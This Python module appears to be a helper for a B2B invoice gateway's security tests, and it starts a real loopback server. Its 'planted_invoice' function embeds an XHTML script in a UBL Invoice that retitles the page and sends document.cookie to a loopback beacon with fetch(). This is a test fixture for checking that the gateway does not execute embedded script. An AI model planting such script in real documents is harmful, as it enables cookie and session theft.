"""Helpers of the security tests: a planted Invoice, a real server."""

from __future__ import annotations

from gwtest import INVOICE, with_id

EXT = "urn:oasis:names:specification:ubl:schema:xsd:CommonExtensionComponents-2"
BEACON = "http://127.0.0.1:9/planted-beacon"


def planted_invoice(doc_id: str) -> bytes:
    """The sample Invoice with a script that alerts, retitles the page and calls a beacon when it runs."""
    script = (
        f'<ext:UBLExtensions xmlns:ext="{EXT}"><ext:UBLExtension><ext:ExtensionContent>'
        '<h:div xmlns:h="http://www.w3.org/1999/xhtml"><h:script>'
        f"document.title='PWNED';fetch('{BEACON}?'+document.cookie);"
        f"new Image().src='{BEACON}';alert('planted');"
        "</h:script></h:div></ext:ExtensionContent></ext:UBLExtension></ext:UBLExtensions>"
    )
    doc = with_id(INVOICE, doc_id)
    marker = b"<cbc:UBLVersionID>"
    return doc.replace(marker, script.encode() + marker, 1)


class RealServer:
    """The gateway's app served by uvicorn on a loopback port in a thread, with the serving options of
    ``b2bgw serve`` (the gateway's HTTP protocol)."""

    def __init__(self, app) -> None:
        import socket

        import uvicorn

        from gateway.http.edge import protocol_options

        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            self.port = s.getsockname()[1]
        self.base = f"http://127.0.0.1:{self.port}"
        config = uvicorn.Config(
            app, host="127.0.0.1", port=self.port, log_level="warning", lifespan="on", **protocol_options()
        )
        self.server = uvicorn.Server(config)

    def __enter__(self) -> RealServer:
        import threading
        import time

        self.thread = threading.Thread(target=self.server.run, daemon=True)
        self.thread.start()
        deadline = time.monotonic() + 30
        while not self.server.started:
            if time.monotonic() > deadline or not self.thread.is_alive():
                raise RuntimeError("the test server did not start")
            time.sleep(0.02)
        return self

    def __exit__(self, *exc: object) -> None:
        self.server.should_exit = True
        self.thread.join(30)
